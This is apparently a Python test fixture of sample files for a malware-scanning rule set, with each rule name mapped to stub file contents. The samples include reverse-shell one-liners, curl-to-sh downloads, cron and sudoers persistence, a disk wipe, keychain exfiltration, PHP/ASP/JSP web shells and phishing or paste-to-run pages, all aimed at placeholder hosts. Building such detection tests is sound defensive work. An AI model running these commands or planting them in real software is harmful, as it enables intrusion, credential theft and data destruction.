"""Inert samples for our rules: scripts of Unix, source code and web pages. Addresses lead nowhere, nothing in here works."""

from typing import Final

from tests.samples.files import jpeg


def _text(*lines: str) -> bytes:
    return "\r\n".join((*lines, "")).encode()


# name of the rule: (name of the file, its bytes)
SAMPLES: Final[dict[str, tuple[str, bytes]]] = {
    # --- Unix
    "shell_opens_itself_to_remote": ("a.sh", b"#!/bin/sh\nbash -i >& /dev/tcp/host.invalid/1 0>&1\n"),
    "interpreter_opens_itself_to_remote": (
        "a.py",
        b"s = socket.socket()\ns.connect(('host.invalid', 1))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n",
    ),
    "shell_runs_download_from_bare_address": ("a.sh", b"#!/bin/sh\ncurl http://192.0.2.1/a | sh\n"),
    "shell_drops_into_temporary_folder": (
        "a.sh",
        b"#!/bin/sh\ncurl -s http://host.invalid/a -o /tmp/.a\nchmod +x /tmp/.a\nnohup /tmp/.a >/dev/null 2>&1 &\n",
    ),
    "shell_plans_download": ("a.sh", b'#!/bin/sh\necho "* * * * * curl http://host.invalid/a | sh" | crontab -\n'),
    "shell_slips_library_into_every_program": ("a.sh", b"#!/bin/sh\necho /tmp/a.so > /etc/ld.so.preload\n"),
    "shell_adds_own_key": ("a.sh", b'#!/bin/sh\necho "ssh-ed25519 AAAA' + b"B" * 40 + b'" >> ~/.ssh/authorized_keys\n'),
    "shell_gives_rights_to_all": ("a.sh", b'#!/bin/sh\necho "x ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers\n'),
    "shell_carries_program_as_text": ("a.sh", b"#!/bin/sh\nprintf '\\x7f\\x45\\x4c\\x46' > a\nchmod +x a\n"),
    "script_runs_program_without_file": (
        "a.py",
        b"fd = os.memfd_create('a')\nos.write(fd, urlopen('http://host.invalid').read())\nos.execv(f'/proc/self/fd/{fd}', ['a'])\n",
    ),
    "shell_mines_coins": ("a.sh", b"#!/bin/sh\nnohup ./xmrig -o stratum+tcp://host.invalid:3333 &\n"),
    "shell_ends_protection": ("a.sh", b"#!/bin/sh\nunset HISTFILE\nsetenforce 0\ncurl http://host.invalid/a\n"),
    "shell_wipes_disk": ("a.sh", b"#!/bin/sh\ndd if=/dev/zero of=/dev/sda bs=1M\n"),
    "mac_asks_for_password_itself": (
        "a.command",
        b'#!/bin/sh\nosascript -e \'display dialog "Your password is needed" default answer "" with hidden answer\'\n',
    ),
    "mac_takes_warning_off": ("a.command", b"#!/bin/sh\ncurl -o /tmp/a http://host.invalid/a\nxattr -c /tmp/a\nchmod +x /tmp/a\n"),
    "mac_starts_download_at_login": (
        "a.plist",
        b"<?xml version='1.0'?><plist><key>ProgramArguments</key><string>curl http://host.invalid | sh</string><key>RunAtLoad</key></plist>",
    ),
    "mac_collects_keys": ("a.sh", b"#!/bin/sh\ncp ~/Library/Keychains/login.keychain-db a\ncurl -F f=@a http://host.invalid\n"),
    "service_from_temporary_folder": ("a.service", b"[Service]\nExecStart=/tmp/.a\n"),
    # --- source code
    "python_runs_download": ("a.py", b"exec(urlopen('http://host.invalid/a').read())\n"),
    "python_reads_keys": ("a.py", b"from pynput import keyboard\ndef on_press(k): pass\nrequests.post('http://host.invalid')\n"),
    "code_steals_browser_data": ("a.py", b"p = 'Login Data'\nwin32crypt.CryptUnprotectData(x)\nrequests.post('http://host.invalid')\n"),
    "python_runs_machine_code": (
        "a.py",
        b"import ctypes\np = k.VirtualAlloc(0, 1)\nk.RtlMoveMemory(p, c, 1)\nk.CreateThread(0, 0, p)\n",
    ),
    "build_project_runs_code_of_its_own": (
        "a.csproj",
        b"<Project><UsingTask TaskName='A' TaskFactory='CodeTaskFactory'><Task><Code Type='Class' Language='cs'/></Task></UsingTask></Project>",
    ),
    "package_runs_hidden_code_at_install": (
        "setup.py",
        b"class Now(install):\n    def run(self):\n        exec(b64decode('eA=='))\nsetup(name='a', cmdclass={'install': Now})\n",
    ),
    "editor_runs_at_opening": (
        "tasks.json",
        b'{"tasks": [{"command": "curl http://host.invalid", "runOptions": {"runOn": "folderOpen"}}]}',
    ),
    "repository_runs_at_looking": ("config", b'[core]\n\tbare = false\n\tfsmonitor = "sh -c ./a"\n'),
    "javascript_of_brackets": ("a.js", b"[][(![]+[])[+[]]+" + b"(![]+[])[+!+[]]+" * 40 + b"[]"),
    "node_starts_download": (
        "a.js",
        b"const c = require('child_process');\nexec('curl http://host.invalid/a | sh');\nexecSync('certutil -urlcache x');\n",
    ),
    "carries_encoded_windows_program": ("a.ps1", b"$a = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA'\n"),
    "carries_encoded_machine_code": ("a.ps1", b"$a = 0xfc,0xe8,0x82,0x00,0x00,0x00,0x60,0x89,0xe5\n"),
    # --- web
    "php_runs_what_is_asked": ("a.php", b"<?php eval($_POST['a']); ?>"),
    "php_runs_packed_text": ("a.php", b"<?php eval(gzinflate(base64_decode('" + b"QUFB" * 30 + b"'))); ?>"),
    "php_manages_foreign_files": (
        "a.php",
        b"<?php move_uploaded_file($a, $b); echo php_uname(); $c = $_GET['cmd']; shell_exec($c); ?>",
    ),
    "asp_runs_what_is_asked": ("a.asp", b'<%@ language="VBScript" %><% execute request("a") %>'),
    "jsp_runs_what_is_asked": ("a.jsp", b'<%@ page %><% Runtime.getRuntime().exec(request.getParameter("cmd")); %>'),
    "words_of_picture_run_on_server": (
        "a.jpg",
        jpeg(b"\xff\xfe\x00\x1f<?php system($_GET['a']); ?>x"),
    ),
    "page_makes_people_run_commands": (
        "a.html",
        _text(
            "<html><body>Verification: press Win + R, then Ctrl + V",
            "<script>navigator.clipboard.writeText('mshta http://host.invalid')</script></body></html>",
        ),
    ),
    "page_sends_password_to_chat": (
        "a.html",
        _text(
            "<html><body><form><input type=password></form>",
            "<script>fetch('https://api.telegram.org/bot1:x/sendMessage')</script></body></html>",
        ),
    ),
    "page_is_saved_login": (
        "a.html",
        _text(
            "<html><head><title>Sign in to Outlook</title></head><body>",
            "<form action='https://host.invalid/a'><input type='password'></form></body></html>",
        ),
    ),
    "page_opens_remote_search": (
        "a.html",
        _text(r"<html><script>location='search-ms:query=a&crumb=location:\\host.invalid\a'</script></html>"),
    ),
    "page_calls_troubleshooter": (
        "a.html",
        _text("<html><script>location='ms-msdt:/id PCWDiagnostic /param IT_BrowseForFile=x'</script></html>"),
    ),
    "page_fetches_from_file_server": ("a.html", _text(r"<html><img src='file://192.0.2.1/a.png'></html>")),
    "page_starts_programs": (
        "a.html",
        _text("<html><script>var s = new ActiveXObject('WScript.Shell'); s.Run('x');</script></html>"),
    ),
    "help_page_starts_command": (
        "a.html",
        _text(
            "<html><object id=x classid='clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11'>",
            "<param name='Item1' value=',cmd.exe,/c x'></object><script>x.Click();</script></html>",
        ),
    ),
    "task_for_unseen_interpreter": (
        "a.xml",
        _text(
            "<?xml version='1.0'?>",
            "<Task xmlns='http://schemas.microsoft.com/windows/2004/02/mit/task'>",
            "<Command>powershell</Command><Arguments>-w hidden</Arguments></Task>",
        ),
    ),
    "sandbox_file_runs_command": (
        "a.wsb",
        _text("<Configuration>", "<MappedFolder></MappedFolder>", "<LogonCommand><Command>x</Command></LogonCommand></Configuration>"),
    ),
    "settings_page_runs_command": (
        "a.settingcontent-ms",
        _text("<?xml version='1.0'?>", "<PCSettings><DeepLink>cmd.exe /c x</DeepLink></PCSettings>"),
    ),
    "library_shows_remote_folder": (
        "a.library-ms",
        _text("<?xml version='1.0'?>", r"<libraryDescription><url>\\host.invalid\a</url></libraryDescription>"),
    ),
    "web_start_with_all_rights": (
        "a.jnlp",
        _text("<?xml version='1.0'?>", "<jnlp codebase='http://host.invalid'>", "<security><all-permissions/></security></jnlp>"),
    ),
    "office_relation_with_script": (
        "document.xml.rels",
        _text("<?xml version='1.0'?>", '<Relationship Target="mhtml:http://host.invalid/a.html!x" TargetMode="External"/>'),
    ),
}
